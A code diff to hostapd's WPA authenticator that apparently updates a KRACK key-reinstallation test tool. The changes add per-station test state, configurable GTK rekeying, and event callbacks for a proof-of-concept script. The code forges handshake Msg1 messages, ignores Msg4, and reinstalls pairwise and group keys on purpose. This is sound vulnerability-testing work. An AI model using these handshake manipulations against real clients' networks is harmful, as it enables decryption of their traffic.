@@ -75,11 +75,18 @@ static const int dot11RSNAConfigPMKReauthThreshold = 70;
 static const int dot11RSNAConfigSATimeout = 60;
 
 #ifdef KRACK_TEST_CLIENT
-/* globals to control the handshake being tested */
+/* The handshake being tested is kept per station. These globals are the
+ * defaults of newly added stations. With TEST_NONE, all handshakes are
+ * executed normally. */
+#define TEST_NONE	0
 #define TEST_4WAY	1
 #define TEST_GROUP	2
 int poc_testing_handshake = TEST_4WAY;
 int poc_testing_tptk_construction = TEST_TPTK_NONE;
+/* Once a station tests the group key handshake, the GTK is periodically
+ * reinstalled for the whole BSS, since all stations share it. */
+int poc_group_rekeying = 0;
+unsigned int poc_group_rekey_ms = HANDSHAKE_TRANSMIT_INTERVAL * 1000;
 #endif
 
 static inline int wpa_auth_mic_failure_report(
@@ -99,6 +106,20 @@ static inline void wpa_auth_psk_failure_report(
 }
 
 
+#ifdef KRACK_TEST_CLIENT
+static void poc_ptk_installed(struct wpa_state_machine *sm, int klen)
+{
+	struct wpa_authenticator *wpa_auth = sm->wpa_auth;
+
+	sm->ptk_generation++;
+	if (wpa_auth->cb.ptk_installed)
+		wpa_auth->cb.ptk_installed(wpa_auth->cb.ctx, sm->addr,
+					   sm->pairwise, sm->PTK.tk, klen,
+					   sm->ptk_generation);
+}
+#endif
+
+
 static inline void wpa_auth_set_eapol(struct wpa_authenticator *wpa_auth,
 				      const u8 *addr, wpa_eapol_variable var,
 				      int value)
@@ -181,27 +202,14 @@ static inline int wpa_auth_start_ampe(struct wpa_authenticator *wpa_auth,
 #endif /* CONFIG_MESH */
 
 #ifdef KRACK_TEST_CLIENT
-static void poc_log(const u8 *clientmac, const char *format, ...)
+/* Report an action of the handshake tests, e.g. so the PoC script can correlate it
+ * with the IVs used by the client. The addr is our own for events of the BSS. */
+static void poc_event(struct wpa_authenticator *wpa_auth, const u8 *addr,
+		      const char *type, const u8 *replay_counter, int keyidx)
 {
-	time_t rawtime;
-	struct tm *timeinfo;
-
-	va_list arg;
-	va_start(arg, format);
-
-	time(&rawtime);
-	timeinfo = localtime(&rawtime);
-	if (clientmac == NULL) {
-		printf("[%02d:%02d:%02d] Hostapd: ", timeinfo->tm_hour,
-			timeinfo->tm_min, timeinfo->tm_sec);
-	} else {
-		printf("[%02d:%02d:%02d] " MACSTR ": Hostapd: ", timeinfo->tm_hour,
-			timeinfo->tm_min, timeinfo->tm_sec, MAC2STR(clientmac));
-	}
-
-	vprintf(format, arg);
-
-	va_end(arg);
+	if (wpa_auth->cb.poc_event)
+		wpa_auth->cb.poc_event(wpa_auth->cb.ctx, addr, type,
+				       replay_counter, keyidx);
 }
 #endif
 
@@ -328,6 +336,14 @@ static void wpa_rekey_gtk(void *eloop_ctx, void *timeout_ctx)
 		group = next;
 	}
 
+#ifdef KRACK_TEST_CLIENT
+	if (poc_group_rekeying) {
+		eloop_register_timeout(poc_group_rekey_ms / 1000,
+				       (poc_group_rekey_ms % 1000) * 1000,
+				       wpa_rekey_gtk, wpa_auth, NULL);
+		return;
+	}
+#endif
 	if (wpa_auth->conf.wpa_group_rekey) {
 		eloop_register_timeout(wpa_auth->conf.wpa_group_rekey,
 				       0, wpa_rekey_gtk, wpa_auth, NULL);
@@ -335,21 +351,87 @@ static void wpa_rekey_gtk(void *eloop_ctx, void *timeout_ctx)
 }
 
 #ifdef KRACK_TEST_CLIENT
-void poc_start_testing_group_handshake(struct wpa_authenticator *wpa_auth)
+static void poc_start_group_rekeying(struct wpa_authenticator *wpa_auth)
 {
-	// Start to periodically execute the group key handshake every 2 seconds
-	wpa_auth->conf.wpa_group_rekey = HANDSHAKE_TRANSMIT_INTERVAL;
+	// Start to periodically execute the group key handshake every poc_group_rekey_ms
+	poc_group_rekeying = 1;
 	eloop_cancel_timeout(wpa_rekey_gtk, wpa_auth, NULL);
-	eloop_register_timeout(wpa_auth->conf.wpa_group_rekey,
-			       0, wpa_rekey_gtk, wpa_auth, NULL);
+	eloop_register_timeout(poc_group_rekey_ms / 1000,
+			       (poc_group_rekey_ms % 1000) * 1000,
+			       wpa_rekey_gtk, wpa_auth, NULL);
+}
+
+void poc_set_group_rekey_interval(struct wpa_authenticator *wpa_auth, unsigned int interval_ms)
+{
+	// Applies to the whole BSS, since all stations share the GTK
+	poc_group_rekey_ms = interval_ms;
+	if (poc_group_rekeying)
+		poc_start_group_rekeying(wpa_auth);
+}
+
+static int poc_sta_set_group_test(struct wpa_state_machine *sm, void *ctx)
+{
+	sm->poc_testing_handshake = TEST_GROUP;
+	return 0;
+}
+
+static int poc_sta_set_tptk_test(struct wpa_state_machine *sm, void *ctx)
+{
+	sm->poc_testing_tptk_construction = *(int *) ctx;
+	return 0;
+}
+
+void poc_start_testing_group_handshake(struct wpa_authenticator *wpa_auth)
+{
+	poc_start_group_rekeying(wpa_auth);
 
 	poc_testing_handshake = TEST_GROUP;
-	poc_log(NULL, "starting group key handshake tests\n");
+	wpa_auth_for_each_sta(wpa_auth, poc_sta_set_group_test, NULL);
+	poc_event(wpa_auth, wpa_auth->addr, POC_EVENT_GROUP_START, NULL,
+		  wpa_auth->group->GN);
 }
 
 void poc_test_tptk_construction(struct wpa_authenticator *wpa_auth, int test_type)
 {
 	poc_testing_tptk_construction = test_type;
+	wpa_auth_for_each_sta(wpa_auth, poc_sta_set_tptk_test, &test_type);
+}
+
+void poc_sta_start_testing_group_handshake(struct wpa_state_machine *sm)
+{
+	if (!poc_group_rekeying)
+		poc_start_group_rekeying(sm->wpa_auth);
+
+	poc_sta_set_group_test(sm, NULL);
+	poc_event(sm->wpa_auth, sm->addr, POC_EVENT_GROUP_START, NULL,
+		  sm->group->GN);
+}
+
+void poc_sta_start_testing_4way_handshake(struct wpa_state_machine *sm)
+{
+	sm->poc_testing_handshake = TEST_4WAY;
+	sm->poc_testing_tptk_construction = TEST_TPTK_NONE;
+}
+
+void poc_sta_stop_testing(struct wpa_state_machine *sm)
+{
+	sm->poc_testing_handshake = TEST_NONE;
+	sm->poc_testing_tptk_construction = TEST_TPTK_NONE;
+}
+
+void poc_sta_test_tptk_construction(struct wpa_state_machine *sm, int test_type)
+{
+	/* The state machine of a station that quickly reconnects is reused, and
+	 * may still be in the group key test. The TPTK tests need the 4-way
+	 * handshake test, where Msg4 is ignored and Msg3 is retransmitted. */
+	sm->poc_testing_handshake = TEST_4WAY;
+	poc_sta_set_tptk_test(sm, &test_type);
+}
+
+void poc_sta_set_retransmit_interval(struct wpa_state_machine *sm, unsigned int timeout_ms)
+{
+	// Used for the next (re)transmitted Msg3 or group Msg1 of this station
+	sm->poc_retransmit_ms = timeout_ms;
 }
 #endif
 
@@ -648,6 +730,10 @@ wpa_auth_sta_init(struct wpa_authenticator *wpa_auth, const u8 *addr,
 	sm->wpa_auth = wpa_auth;
 	sm->group = wpa_auth->group;
 	wpa_group_get(sm->wpa_auth, sm->group);
+#ifdef KRACK_TEST_CLIENT
+	sm->poc_testing_handshake = poc_testing_handshake;
+	sm->poc_testing_tptk_construction = poc_testing_tptk_construction;
+#endif
 
 	return sm;
 }
@@ -1033,7 +1119,7 @@ void wpa_receive(struct wpa_authenticator *wpa_auth,
 		msgtxt = "4/4 Pairwise";
 
 #ifdef KRACK_TEST_CLIENT
-		if (poc_testing_handshake == TEST_4WAY)
+		if (sm->poc_testing_handshake == TEST_4WAY)
 		{
 			// Still mark connection as complete, so we do receive and accept encrypted data
 			if (sm->keycount <= 0) {
@@ -1041,7 +1127,6 @@ void wpa_receive(struct wpa_authenticator *wpa_auth,
 				sm->keycount = 1;
 			}
 
-			//poc_log(sm->addr, "Ignoring Msg4/4\n");
 			return;
 		}
 #endif
@@ -1702,6 +1787,10 @@ static void wpa_send_eapol(struct wpa_authenticator *wpa_auth,
 			eapol_key_timeout_first_group;
 	else
 		timeout_ms = eapol_key_timeout_subseq;
+#ifdef KRACK_TEST_CLIENT
+	if (sm->poc_retransmit_ms)
+		timeout_ms = sm->poc_retransmit_ms;
+#endif
 	if (pairwise && ctr == 1 && !(key_info & WPA_KEY_INFO_MIC))
 		sm->pending_1_of_4_timeout = 1;
 	wpa_printf(MSG_DEBUG, "WPA: Use EAPOL-Key timeout of %u ms (retry "
@@ -2293,8 +2382,7 @@ SM_STATE(WPA_PTK, PTKINITNEGOTIATING)
 	}
 
 #ifdef KRACK_TEST_CLIENT
-	if (poc_testing_handshake == TEST_4WAY && sm->TimeoutCtr > 1 && !sm->pairwise_set) {
-		poc_log(sm->addr, "already installing pairwise key\n");
+	if (sm->poc_testing_handshake == TEST_4WAY && sm->TimeoutCtr > 1 && !sm->pairwise_set) {
 		enum wpa_alg alg = wpa_cipher_to_alg(sm->pairwise);
 		int klen = wpa_cipher_key_len(sm->pairwise);
 		if (wpa_auth_set_key(sm->wpa_auth, 0, alg, sm->addr, 0,
@@ -2303,11 +2391,14 @@ SM_STATE(WPA_PTK, PTKINITNEGOTIATING)
 			return;
 		}
 		sm->pairwise_set = TRUE;
+		poc_event(sm->wpa_auth, sm->addr, POC_EVENT_EARLY_INSTALL,
+			  sm->key_replay[0].counter, 0);
+		poc_ptk_installed(sm, klen);
 	}
 
 	// When testing for Temporal TPK construction (e.g. wpa_supplicant 2.6 attack), forge a message 1
 	// with the current and a random ANonce before retransmitted message 3's.
-	if (sm->TimeoutCtr > 1 && poc_testing_tptk_construction != TEST_TPTK_NONE) {
+	if (sm->TimeoutCtr > 1 && sm->poc_testing_tptk_construction != TEST_TPTK_NONE) {
 		u8 replay_counter[WPA_REPLAY_COUNTER_LEN];
 		u8 random_anonce[WPA_NONCE_LEN];
 		u8 *anonce = NULL;
@@ -2318,13 +2409,14 @@ SM_STATE(WPA_PTK, PTKINITNEGOTIATING)
 		// Note: this message 1 is sent using link-layer encryption. This is what we want.
 		// In practice an implementation may accept plaintext message 1's due to race conditions,
 		// were we just send it encrypted so we simulate always winning these race conditions.
-		poc_log(sm->addr, "Injecting Msg1 (%s) before Msg3 to test TPTK construction attack\n",
-			poc_testing_tptk_construction == TEST_TPTK_RAND ? "with random ANonce" : "with same ANonce");
-
-		anonce = poc_testing_tptk_construction == TEST_TPTK_RAND ? random_anonce : sm->ANonce;
+		anonce = sm->poc_testing_tptk_construction == TEST_TPTK_RAND ? random_anonce : sm->ANonce;
 		__wpa_send_eapol(sm->wpa_auth, sm,
 			 WPA_KEY_INFO_ACK | WPA_KEY_INFO_KEY_TYPE, NULL,
 			 anonce, NULL, 0, 0, 0, 0);
+		poc_event(sm->wpa_auth, sm->addr,
+			  sm->poc_testing_tptk_construction == TEST_TPTK_RAND ?
+			  POC_EVENT_TPTK_RAND_MSG1 : POC_EVENT_TPTK_MSG1,
+			  sm->key_replay[0].counter, 0);
 
 		// The replay counter should not be modified when sending the forged Msg1
 		memcpy(sm->key_replay[0].counter, replay_counter, WPA_REPLAY_COUNTER_LEN);
@@ -2493,19 +2585,19 @@ SM_STATE(WPA_PTK, PTKINITNEGOTIATING)
 	}
 #endif /* CONFIG_P2P */
 
-#ifdef KRACK_TEST_CLIENT
-	// Note: this was done in the beginning of the function, but we want the
-	//       output only to occur at this point.
-	if (poc_testing_handshake == TEST_4WAY)
-		poc_log(sm->addr, "Resetting Tx IV of group key and sending Msg3/4\n");
-#endif
-
 	wpa_send_eapol(sm->wpa_auth, sm,
 		       (secure ? WPA_KEY_INFO_SECURE : 0) | WPA_KEY_INFO_MIC |
 		       WPA_KEY_INFO_ACK | WPA_KEY_INFO_INSTALL |
 		       WPA_KEY_INFO_KEY_TYPE,
 		       _rsc, sm->ANonce, kde, pos - kde, keyidx, encr);
 	os_free(kde);
+
+#ifdef KRACK_TEST_CLIENT
+	// Report this after sending, so the event contains the replay counter of this Msg3
+	if (sm->poc_testing_handshake == TEST_4WAY)
+		poc_event(sm->wpa_auth, sm->addr, POC_EVENT_MSG3,
+			  sm->key_replay[0].counter, keyidx);
+#endif
 }
 
 
@@ -2523,6 +2615,9 @@ SM_STATE(WPA_PTK, PTKINITDONE)
 		}
 		/* FIX: MLME-SetProtection.Request(TA, Tx_Rx) */
 		sm->pairwise_set = TRUE;
+#ifdef KRACK_TEST_CLIENT
+		poc_ptk_installed(sm, klen);
+#endif
 
 		if (sm->wpa_auth->conf.wpa_ptk_rekey) {
 			eloop_cancel_timeout(wpa_rekey_ptk, sm->wpa_auth, sm);
@@ -2751,6 +2846,12 @@ SM_STATE(WPA_PTK_GROUP, REKEYNEGOTIATING)
 		       rsc, gsm->GNonce, kde, kde_len, gsm->GN, 1);
 
 	os_free(kde_buf);
+
+#ifdef KRACK_TEST_CLIENT
+	if (sm->poc_testing_handshake == TEST_GROUP)
+		poc_event(sm->wpa_auth, sm->addr, POC_EVENT_GROUP_MSG1,
+			  sm->key_replay[0].counter, gsm->GN);
+#endif
 }
 
 
@@ -2817,7 +2918,7 @@ static int wpa_gtk_update(struct wpa_authenticator *wpa_auth,
 	int ret = 0;
 
 #ifdef KRACK_TEST_CLIENT
-	if (poc_testing_handshake == TEST_GROUP) {
+	if (poc_group_rekeying) {
 		//printf(">>> Reusing previous GTK as new GTK: %02X %02X %02X %02X ..\n", group->GTK[group->GN - 1][0],
 		//	group->GTK[group->GN - 1][1], group->GTK[group->GN - 1][2], group->GTK[group->GN - 1][3]);
 	} else
@@ -3000,7 +3101,7 @@ static void wpa_group_setkeys(struct wpa_authenticator *wpa_auth,
 	group->wpa_group_state = WPA_GROUP_SETKEYS;
 	group->GTKReKey = FALSE;
 #ifdef KRACK_TEST_CLIENT
-	if (poc_testing_handshake == TEST_GROUP) {
+	if (poc_group_rekeying) {
 		//printf(">>> %s: not chaning keyidx of new group key\n", __FUNCTION__);
 	} else
 #endif